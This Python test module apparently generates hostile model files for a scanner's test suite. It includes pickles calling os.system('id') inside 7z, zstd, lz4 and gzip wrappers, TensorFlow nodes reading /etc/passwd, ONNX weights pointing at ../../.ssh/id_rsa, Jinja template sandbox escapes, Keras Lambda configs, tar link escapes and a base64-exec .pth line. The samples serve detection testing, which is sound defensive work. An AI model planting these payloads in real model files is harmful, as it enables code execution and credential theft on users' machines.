"""Hostile files of the formats that are not pickles at heart: graphs, tensors, archives, configurations.

The other half of tests/forge_hostile.py, which says what a sample is.
"""

import base64
import gzip
import io
import json
import struct
import sys
import tarfile
from collections.abc import Iterator

from lz4 import frame as lz4_frame

from tests.forge import archive, call, stream, torch_zip
from tests.forge_hdf5 import Hdf5, attribute, dataset, external_link, link, message, of, shape
from tests.forge_sevenzip import COPY, LZMA1, LZMA2, S, sevenzip_of
from tests.forge_tensorflow import const, function, graph, meta_graph, node, put, saved_model, text, texts

if sys.version_info >= (3, 14):
    from compression import zstd
else:
    from backports import zstd

ATTACK = stream(call("os.system", "id"))
Row = tuple[str, str, str, bytes, tuple[str, ...]]  # id, class of attack, file name, content, right rules
CODE = ("ART-001", "ART-002")
BREAK_OUT = "{{ ''.__class__.__mro__[1].__subclasses__() }}"


def _lambda(*names: str) -> bytes:
    layers = [{"class_name": name, "config": {"name": name.lower()}} for name in names]
    return json.dumps({"class_name": "Sequential", "config": {"name": "m", "layers": layers}}).encode()


# --- TensorFlow --------------------------------------------------------------------------------------------


def tensorflow() -> Iterator[Row]:
    """Nodes that reach files, the network or Python, in each kind of file and in functions."""
    x, passwd = node("x", "Placeholder"), const("p", "/etc/passwd")
    joined = const("a", "/root/"), const("b", ".bashrc"), node("p", "StringJoin", "a", "b")
    reached: dict[str, tuple[bytes, ...]] = {
        "reads a file": (passwd, node("r", "ReadFile", "p")),
        "writes a file": (const("p", "/root/.bashrc"), node("w", "WriteFile", "p", "x")),
        "a checkpoint over a file": (passwd, node("s", "SaveV2", "p")),
        "a path that is joined": (*joined, node("w", "WriteFile", "p", "x")),
        "lines of a file": (passwd, node("d", "TextLineDataset", "p")),
        "a list of files": (passwd, node("m", "MatchingFiles", "p")),
        "a URL": (const("u", "http://e.example/x"), node("r", "ReadFile", "u")),
        "a call elsewhere": (const("a", "h:1"), node("r", "RpcClient", "a", "x")),
        "Python": (node("f", "PyFunc", "x", token=text("pyfunc_0")),),
        "a print into a file": (node("p", "PrintV2", "x", output_stream=text("file:///root/.bashrc")),),
        "a debugger elsewhere": (node("d", "DebugIdentityV2", "x", debug_urls=texts("grpc://e.example:1")),),
    }  # fmt: skip
    for label, nodes in reached.items():
        yield label, "TensorFlow", "saved_model.pb", saved_model(graph(x, *nodes)), ("ART-009",)
    frozen = reached["writes a file"]
    yield "a frozen graph", "TensorFlow", "frozen.pb", graph(x, *frozen), ("ART-009",)
    yield "a MetaGraph", "TensorFlow", "model.meta", meta_graph(graph(x, *frozen)), ("ART-009",)
    inside = graph(x, functions=(function("f", x, *frozen),))
    yield "in a function", "TensorFlow", "saved_model.pb", saved_model(inside), ("ART-009",)
    packed = _tar(**{"m/saved_model.pb": saved_model(graph(x, *frozen))})
    yield "in a tar.gz", "TensorFlow", "model.tar.gz", gzip.compress(packed), ("ART-009",)


# --- ONNX --------------------------------------------------------------------------------------------------


def _operator(name: str, domain: str, *attributes: bytes) -> bytes:
    return put(1, "x") + put(4, name) + put(7, domain) + b"".join(put(5, each) for each in attributes)


def _weight(location: str) -> bytes:
    sides = put(1, 2) + put(1, 3) + put(2, 1) + put(8, "w")
    return sides + put(13, put(1, "location") + put(2, location)) + put(14, 1)


def _onnx(inside: bytes, more: bytes = b"") -> bytes:
    return put(1, 8) + put(2, "pytorch") + put(8, put(1, "") + put(2, 17)) + put(7, inside) + more


def onnx() -> Iterator[Row]:
    """Operators of other libraries, and weights in files outside of the model's folder."""
    evil = _operator("Evil", "com.evil")
    outside = _operator("Constant", "", put(5, _weight("/etc/passwd")))
    rows = {
        "weights from /etc": _onnx(put(5, _weight("/etc/passwd"))),
        "weights from above": _onnx(put(5, _weight("../../.ssh/id_rsa"))),
        "weights by a Windows path": _onnx(put(5, _weight("..\\..\\x"))),
        "weights by a URL": _onnx(put(5, _weight("file:///etc/passwd"))),
        "weights in an attribute": _onnx(put(1, outside)),
        "weights in a function": _onnx(b"", put(25, put(7, outside))),
        "an operator of its own": _onnx(put(1, evil)),
        "an operator in a branch": _onnx(put(1, _operator("If", "", put(6, put(1, evil))))),
        "Python in an operator": _onnx(put(1, _operator("PyOp", "ai.onnx.contrib"))),
        "Python of the runtime": _onnx(put(1, _operator("PythonOp", "com.microsoft"))),
    }  # fmt: skip
    for label, content in rows.items():
        yield label, "ONNX", "model.onnx", content, ("ART-010",)


# --- GGUF --------------------------------------------------------------------------------------------------


def _words(value: str) -> bytes:
    return struct.pack("<Q", len(value.encode())) + value.encode()


def _gguf(pairs: dict[str, str], tensors: bytes = b"", count: int = 0, data: bytes = b"") -> bytes:
    head = b"GGUF" + struct.pack("<IQQ", 3, count, len(pairs))
    head += b"".join(_words(key) + struct.pack("<I", 8) + _words(value) for key, value in pairs.items())
    head += tensors
    return head + bytes(-len(head) % 32) + data


def gguf() -> Iterator[Row]:
    """Templates that leave the sandbox, and headers that lie to the reader's arithmetic."""

    def pairs(count: int) -> bytes:
        return b"GGUF" + struct.pack("<IQQ", 3, 0, count)

    templates = {
        "CVE-2024-34359: a way out": BREAK_OUT,
        "globals": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "by attr": "{% set x = ''|attr('__class__') %}{{ x }}",
    }
    for label, template in templates.items():
        for key in ("tokenizer.chat_template", "tokenizer.chat_template.tool_use"):
            content = _gguf({"general.architecture": "llama", key: template})
            yield f"{label}, {key}", "GGUF", "m.gguf", content, ("ART-011",)
    shaped = _words("a") + struct.pack("<I", 1) + struct.pack("<QIQ", 1 << 40, 0, 0)
    past = _words("a") + struct.pack("<I", 1) + struct.pack("<QIQ", 8, 0, 1 << 40)
    wrapped = _words("a") + struct.pack("<I", 2) + struct.pack("<QQIQ", 1 << 33, 1 << 33, 0, 0)
    rows = {
        "a tensor larger than the file": _gguf({"a": "b"}, shaped, 1, bytes(32)),
        "a tensor past the end": _gguf({"a": "b"}, past, 1, bytes(32)),
        "sides that wrap around": _gguf({"a": "b"}, wrapped, 1, bytes(32)),
        "counts past the file": pairs(1 << 63),
        "a text past the end": pairs(1) + _words("k") + struct.pack("<IQ", 8, 1 << 40),
        "a key twice": pairs(2) + (_words("k") + struct.pack("<I", 8) + _words("v")) * 2,
    }  # fmt: skip
    for label, content in rows.items():
        yield label, "GGUF", "m.gguf", content, ("ART-013",)


# --- HDF5 and Keras ----------------------------------------------------------------------------------------


def _outside(kind: str, target: str) -> bytes:
    file = Hdf5()
    if kind == "link":
        return file.whole(file.add(external_link("w", target)))
    if kind == "data":
        return file.whole(file.add(link("d", file.add(dataset(file.outside("near.bin", target))))))
    more = message(1, shape(2)), file.virtual(".", "near.h5", target)
    return file.whole(file.add(link("d", file.add(*more))))


def hdf5() -> Iterator[Row]:
    """Configurations that run code wherever they lie, and data in files outside of the folder."""
    inner = Hdf5()
    at = inner.add(attribute("model_config", _lambda("Dense", "Lambda")))
    behind = Hdf5(512)
    loss = {"loss": {"class_name": "function", "module": "os", "config": "system"}}
    places = {
        "a Lambda": of(attribute("model_config", _lambda("Dense", "Lambda"))),
        "a Lambda below the root": inner.whole(inner.add(link("m", at))),
        "behind a user block": behind.whole(behind.add(attribute("model_config", _lambda("Lambda")))),
        "a loss by name": of(attribute("training_config", json.dumps(loss).encode())),
    }  # fmt: skip
    for label, content in places.items():
        yield label, "HDF5", "model.h5", content, ("ART-008",)
    weights = archive({"config.json": _lambda("Dense"), "model.weights.h5": places["a Lambda"]})
    yield "a Lambda in the weights of an archive", "HDF5", "m.keras", weights, ("ART-008",)
    for kind in ("link", "data", "virtual"):
        for target in ("/etc/passwd", "../../x"):
            label = f"CVE-2026-1669: {kind} to {target}"
            yield label, "HDF5", "model.weights.h5", _outside(kind, target), ("ART-021",)
    pickled = of(attribute("non_index_axes", stream(call("os.system", "id"), protocol=0)))
    yield "a pickle that PyTables loads", "HDF5", "data.h5", pickled, CODE


# --- archives and streams ----------------------------------------------------------------------------------


def _tar(**members: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as opened:
        for label, content in members.items():
            row = tarfile.TarInfo(label)
            row.size = len(content)
            opened.addfile(row, io.BytesIO(content))
    return out.getvalue()


def _tar_link(kind: bytes, target: str) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as opened:
        row = tarfile.TarInfo("data/weights")
        row.type, row.linkname = kind, target
        opened.addfile(row)
    return out.getvalue()


def archives() -> Iterator[Row]:
    """The same pickle where only some readers look, and members that leave the folder."""
    checkpoint = torch_zip(ATTACK, {"0": bytes(16)})
    # A skippable frame of zstd, an empty frame of lz4: both may stand in front of anything.
    skippable = struct.pack("<2I", 0x184D2A50, 4) + b"note"
    rows: dict[str, tuple[str, bytes]] = {
        "7z, stored": ("m.7z", sevenzip_of([S("data.pkl", ATTACK)], method=COPY)),
        "7z, LZMA (nullifAI)": ("pytorch_model.bin", sevenzip_of([S("data.pkl", ATTACK)], method=LZMA1)),
        "7z, LZMA2, checkpoint": ("m.pt", sevenzip_of([S("a", b"x"), S("m.pt", checkpoint)], method=LZMA2)),
        "7z, packed directory": ("m.7z", sevenzip_of([S("data.pkl", ATTACK)], method=LZMA2, is_packed=True)),
        "7z, foreign suffix": ("notes.txt", sevenzip_of([S("readme.md", ATTACK)], method=LZMA2)),
        "7z in a zip": ("m.zip", archive({"a.7z": sevenzip_of([S("x", ATTACK)], method=LZMA2)})),
        "zstd": ("m.pkl.zst", zstd.compress(ATTACK)),
        "zstd of a checkpoint": ("m.pt.zst", zstd.compress(checkpoint)),
        "zstd behind a skippable frame": ("m.bin", skippable + zstd.compress(ATTACK)),
        "zstd, second frame": ("m.zst", zstd.compress(b"") + zstd.compress(ATTACK)),
        "tar.zst": ("m.tar.zst", zstd.compress(_tar(a=ATTACK))),
        "lz4": ("m.joblib", lz4_frame.compress(ATTACK)),
        "lz4 of a tar": ("m.tar.lz4", lz4_frame.compress(_tar(a=ATTACK))),
        "lz4, unnamed": ("m", lz4_frame.compress(checkpoint)),
        "gzip in zstd in a zip": ("m.zip", archive({"a": zstd.compress(gzip.compress(ATTACK))})),
        "two members of gzip": ("m.gz", gzip.compress(b"") + gzip.compress(ATTACK)),
    }  # fmt: skip
    for label, (file, content) in rows.items():
        yield label, "containers", file, content, CODE
    for label, kind, target in (
        ("a symbolic link", tarfile.SYMTYPE, "/etc"),
        ("a link up", tarfile.SYMTYPE, "../../.ssh"),
        ("a hard link", tarfile.LNKTYPE, "../../x"),
    ):
        yield f"tar: {label}", "members that leave", "m.tar", _tar_link(kind, target), ("ART-007",)
        packed = gzip.compress(_tar_link(kind, target))
        yield f"nemo: {label}", "members that leave", "m.nemo", packed, ("ART-007",)
    for member in ("../../x", "/etc/cron.d/x", "C:\\x"):
        content = sevenzip_of([S(member, b"x")])
        yield f"7z: {member}", "members that leave", "m.7z", content, ("ART-007",)


# --- files beside weights ----------------------------------------------------------------------------------


def beside() -> Iterator[Row]:
    """Handlers, path files, configurations and templates that loaders run."""
    for label, words in {
        "commands": "import os\nos.system('id')\n",
        "the network": "import socket as s\ns.create_connection(('h', 1))\n",
        "another pickle": "import pickle\npickle.load(open('/tmp/x', 'rb'))\n",
    }.items():
        manifest = {"model": {"modelName": "n", "handler": "h.py"}, "archiverVersion": "0.12.0"}
        members = {"MAR-INF/MANIFEST.json": json.dumps(manifest).encode(), "h.py": words.encode()}
        yield f"a handler: {label}", "TorchServe", "m.mar", archive(members), ("ART-012",)
        files = gzip.compress(_tar(**members))
        yield f"a packed handler: {label}", "TorchServe", "m.mar", files, ("ART-012",)
    hidden = base64.b64encode(b"print(1)").decode()
    start = f"import base64;exec(base64.b64decode('{hidden}'))\n".encode()
    yield (
        "a line that runs",
        "path files",
        "zzz.pth",
        b"./src\n" + start,
        ("ART-012", "ART-001", "ART-019", "DEP-024"),
    )
    template = json.dumps({"chat_template": [{"name": "default", "template": BREAK_OUT}]}).encode()
    yield "in a list", "templates", "tokenizer_config.json", template, ("ART-011",)
    processor = json.dumps({"chat_template": BREAK_OUT}).encode()
    yield "of a processor", "templates", "processor_config.json", processor, ("ART-011",)
    for name in ("config.json", "tokenizer_config.json"):
        remote = json.dumps({"auto_map": {"AutoModel": "evil/repo--m.X", "AutoConfig": "evil/repo--c.Y"}})
        yield f"auto_map in {name}", "remote code", name, remote.encode(), ("ART-012",)


def rows() -> Iterator[Row]:
    """Every sample of these formats."""
    for part in (tensorflow, onnx, gguf, hdf5, archives, beside):
        yield from part()
